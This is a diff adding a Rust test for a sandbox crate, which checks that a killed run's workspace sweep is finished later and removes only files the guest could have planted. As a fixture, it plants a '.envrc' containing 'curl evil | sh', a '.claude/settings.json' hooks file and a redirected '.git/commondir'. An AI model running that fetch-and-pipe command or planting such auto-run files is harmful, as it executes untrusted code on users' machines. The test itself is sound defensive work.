@@ -471,3 +471,88 @@ fn g7_a_waiting_run_starts_once_the_holder_is_done() {
     release.join().unwrap();
     fs::remove_dir_all(&d).unwrap();
 }
+
+/// A read-write run's inspection, recorded in `state` as a supervisor records it before its
+/// guest starts; the run then "dies" (the guard is dropped without a sweep).
+fn recorded_run(ws: &Path, state: &Path) {
+    let opened = stockade_hostfs::open_workspace(ws).unwrap();
+    let mut g = Guarded::inspect_dir(opened.path(), opened.dir().try_clone().unwrap()).unwrap();
+    g.record_in(state).unwrap();
+}
+
+fn records(state: &Path) -> Vec<PathBuf> {
+    fs::read_dir(state).map(|d| d.map(|e| e.unwrap().path()).collect()).unwrap_or_default()
+}
+
+/// G8: a supervisor killed before its sweep (finding 4's SIGKILL) leaves its record; the
+/// sweep is finished later, under the workspace's lock, and only what the run could have
+/// made is removed.
+#[test]
+fn g8_a_killed_runs_sweep_is_finished_later_and_only_for_what_it_could_have_made() {
+    let state = dir("records");
+    let ws = repo("killed");
+    recorded_run(&ws, &state);
+    assert_eq!(records(&state).len(), 1);
+    // What the guest planted before its supervisor died.
+    fs::create_dir(ws.join(".claude")).unwrap();
+    fs::write(ws.join(".claude/settings.json"), "{\"hooks\": {}}").unwrap();
+    fs::write(ws.join(".envrc"), "curl evil | sh\n").unwrap();
+    fs::write(ws.join(".git/commondir"), "x\n").unwrap();
+    // Another run holds the workspace: the record waits for it.
+    let held = lock_now(&ws, false).unwrap();
+    assert!(stockade_hostfs::finish_killed_sweeps(&state).is_empty());
+    assert!(ws.join(".envrc").exists() && records(&state).len() == 1);
+    drop(held);
+    let done = stockade_hostfs::finish_killed_sweeps(&state);
+    let [stockade_hostfs::Finished::Swept { workspace, swept }] = done.as_slice() else { panic!("{done:?}") };
+    assert_eq!(workspace, &fs::canonicalize(&ws).unwrap());
+    assert_eq!(swept.removed, [".claude", ".envrc", ".git/commondir"], "{swept:?}");
+    assert!(swept.errors.is_empty() && swept.left.is_empty(), "{swept:?}");
+    assert!(!ws.join(".envrc").exists() && !ws.join(".claude").exists() && !ws.join(".git/commondir").exists());
+    // What the user had stays.
+    assert!(ws.join(".bashrc").exists() && ws.join(".git/config").exists() && ws.join(".git/HEAD").exists());
+    assert!(records(&state).is_empty(), "the finished record stayed: {:?}", records(&state));
+    assert!(done[0].to_string().contains("removed .claude .envrc .git/commondir"), "{}", done[0]);
+
+    // A planted path that changed after the run could have written (its record was last
+    // touched an hour ago) is the user's as far as anyone can tell: left, and listed.
+    recorded_run(&ws, &state);
+    let [record] = records(&state).try_into().unwrap();
+    fs::write(ws.join(".envrc"), "export MINE=1\n").unwrap();
+    let hour_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
+    fs::File::options().write(true).open(&record).unwrap().set_modified(hour_ago).unwrap();
+    let done = stockade_hostfs::finish_killed_sweeps(&state);
+    let [stockade_hostfs::Finished::Swept { swept, .. }] = done.as_slice() else { panic!("{done:?}") };
+    assert_eq!((swept.removed.len(), swept.left.as_slice()), (0, [".envrc".to_owned()].as_slice()), "{swept:?}");
+    assert_eq!(fs::read_to_string(ws.join(".envrc")).unwrap(), "export MINE=1\n");
+    assert!(done[0].to_string().contains("left .envrc"), "{}", done[0]);
+    assert!(records(&state).is_empty());
+    fs::remove_file(ws.join(".envrc")).unwrap();
+
+    // A record whose directory was replaced touches nothing in the new one.
+    recorded_run(&ws, &state);
+    let moved = ws.with_extension("old");
+    fs::rename(&ws, &moved).unwrap();
+    fs::create_dir(&ws).unwrap();
+    fs::write(ws.join(".envrc"), "new directory's own\n").unwrap();
+    let done = stockade_hostfs::finish_killed_sweeps(&state);
+    assert!(matches!(done.as_slice(), [stockade_hostfs::Finished::Stale { .. }]), "{done:?}");
+    assert!(ws.join(".envrc").exists() && records(&state).is_empty());
+
+    // An unreadable record is removed and said to be.
+    fs::write(state.join("garbage.json"), "not json").unwrap();
+    let done = stockade_hostfs::finish_killed_sweeps(&state);
+    assert!(matches!(done.as_slice(), [stockade_hostfs::Finished::Unreadable { .. }]), "{done:?}");
+    assert!(records(&state).is_empty());
+
+    // A run that sweeps removes its own record.
+    let opened = stockade_hostfs::open_workspace(&ws).unwrap();
+    let mut g = Guarded::inspect_dir(opened.path(), opened.dir().try_clone().unwrap()).unwrap();
+    g.record_in(&state).unwrap();
+    assert_eq!(records(&state).len(), 1);
+    let _ = g.sweep();
+    assert!(records(&state).is_empty());
+    for d in [&ws, &moved, &state] {
+        let _ = fs::remove_dir_all(d);
+    }
+}
